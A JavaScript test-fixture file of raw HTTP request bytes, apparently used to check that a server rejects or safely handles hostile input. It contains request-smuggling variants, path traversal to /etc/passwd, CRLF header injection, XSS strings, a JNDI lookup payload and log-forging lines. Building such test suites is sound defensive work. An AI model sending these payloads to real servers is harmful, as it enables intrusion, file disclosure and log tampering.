// Requests that no honest client sends, as bytes, and what a listener may answer.
const host = "Host: 127.0.0.1";
const close = "Connection: close";
const end = "\r\n\r\n";
const post = (fields, body) => `POST / HTTP/1.1\r\n${[host, ...fields].join("\r\n")}${end}${body}`;
const get = (target, ...fields) => `GET ${target} HTTP/1.1\r\n${[host, ...fields].join("\r\n")}${end}`;
const form = "Content-Type: application/x-www-form-urlencoded";
const chunked = "Transfer-Encoding: chunked";

// A second request, within what could be taken for the body of the first one. A server that answers it was fooled.
const smuggled = `GET /smuggled HTTP/1.1\r\n${host}${end}`;

// name → bytes. The answer is one error, and nothing after it is answered.
export const rejected = {
  "both lengths": post(["Content-Length: 6", chunked], `0${end}${smuggled}`),
  "both lengths, the other way round": post([chunked, "Content-Length: 3"], `8\r\nSMUGGLED\r\n0${end}${smuggled}`),
  "two lengths": post(["Content-Length: 5", "Content-Length: 6"], `vote=${smuggled}`),
  "two lengths in one field": post(["Content-Length: 5, 6"], `vote=${smuggled}`),
  "a negative length": post(["Content-Length: -1"], smuggled),
  "a length with a plus sign": post(["Content-Length: +5"], `vote=${smuggled}`),
  "a length beyond 64 bits": post(["Content-Length: 18446744073709551617"], smuggled),
  "a coding in disguise": post(["Transfer-Encoding: xchunked"], `0${end}${smuggled}`),
  "a coding twice": post([chunked, chunked], `0${end}${smuggled}`),
  "a coding that is not last": post(["Transfer-Encoding: chunked, identity"], `0${end}${smuggled}`),
  "a coding behind a tab": post(["Transfer-Encoding:\tchunked\t, x"], `0${end}${smuggled}`),
  "a space before the colon": post(["Transfer-Encoding : chunked"], `0${end}${smuggled}`),
  "a folded coding": post(["Transfer-Encoding:\r\n chunked"], `0${end}${smuggled}`),
  "a bare line feed": `POST / HTTP/1.1\n${host}\n\n${smuggled}`,
  "a bare carriage return": `POST / HTTP/1.1\r${host}\r\r${smuggled}`,
  "a null byte in a field": get("/", "X-A: a\0b"),
  "a chunk size that overflows": post([form, chunked], `fffffffffffffffff\r\nvote=a\r\n0${end}`),
  "a chunk size with a sign": post([form, chunked], `-1\r\nvote=a\r\n0${end}`),
  "a chunk without its end": post([form, chunked], `6\r\nvote=aXX0${end}${smuggled}`),
  "a gigabyte": post([form, "Content-Length: 1073741824"], "vote=a"),
  "64 kB of fields": get("/", `X-A: ${"a".repeat(64 * 1024)}`),
  "a thousand fields": get("/", ...Array.from({ length: 1000 }, (_, n) => `X-${n}: a`)),
  "a target of 100 kB": get(`/${"a".repeat(100_000)}`),
  "no Host": `GET / HTTP/1.1${end}`,
  "two Hosts": get("/", "Host: evil.example"),
  "a Host that is none": `GET / HTTP/1.1\r\nHost: a b/c${end}`,
  "a target with spaces": `GET / x HTTP/1.1\r\n${host}${end}`,
  "HTTP/0.9": "GET /\r\n\r\n",
  "HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  TLS: Buffer.from(`16030100${"00".repeat(60)}0d0a0d0a`, "hex"),
  "a proxy's preface": `PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n${get("/")}`,
  "an unknown expectation": get("/", "Expect: 200-ok"),
  "an encoded null byte": get("/%00"),
  "an encoded line break": get("/%0d%0aX-Injected:%20yes"),
  "a broken escape": get("/%zz"),
  "a way to another server": `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443${end}`,
};

// name → bytes. Requests that are well-formed. The answer must not be what they want.
export const harmless = {
  "a way out of the folder": get("/../../../../etc/passwd", close),
  "an encoded way out": get("/..%2f..%2f..%2fetc%2fpasswd", close),
  "a way out encoded twice": get("/%252e%252e/%252e%252e/etc/passwd", close),
  "a way out by backslashes": get("/..%5c..%5cetc%5cpasswd", close),
  "a way out below the files": get("/assets/../../etc/passwd", close),
  "an absolute file": get("//etc/passwd", close),
  "a file of the system as a URL": get("file:///etc/passwd", close),
  "a trace": `TRACE / HTTP/1.1\r\n${host}\r\nX-Secret: 1\r\n${close}${end}`,
  "a field break in the query": get("/join?code=A%0d%0aX-Injected:%20yes", close),
  "a field break in a code": get("/p/A%0D%0AX-Injected:%20yes/results", close),
  "a field break in an id": get("/", "X-Request-Id: a%0d%0aX-Injected: yes", close),
  "a script in the query": get("/join?code=<script>alert(1)</script>", close),
  "a script in the path": get("/p/<script>alert(1)</script>", close),
  "a script in a field": get("/", "Accept-Language: <script>alert(1)</script>", "User-Agent: ${jndi:ldap://x}", close),
  "a thousand cookies": get("/", `Cookie: ${Array.from({ length: 1000 }, (_, n) => `c${n}=1`).join("; ")}`, close),
  "a cookie of 12 kB": get("/", `Cookie: voter_id=${"a".repeat(12_000)}`, close),
  "cookies of other bytes": get("/", 'Cookie: voter_id="\x01\xff"; =; ;;; voter_id==; __Host-voter_id', close),
  "many languages": get("/", `Accept-Language: ${"de;q=0.1,".repeat(1500)}en`, close),
  "many tags": get("/", `If-None-Match: ${'"a",'.repeat(3000)}*`, close),
  "many ranges": get("/", `Range: bytes=${"0-0,".repeat(3000)}1-`, close),
  "a line of a log": get('/%22%7D%0a{"level":"error","message":"forged"}', close),
  "a log line in an origin": `POST / HTTP/1.1\r\n${host}\r\nOrigin: x"},{"level":"error","message":"forged"}\r\n${form}\r\n` +
    `Content-Length: 6\r\n${close}${end}vote=a`,
};
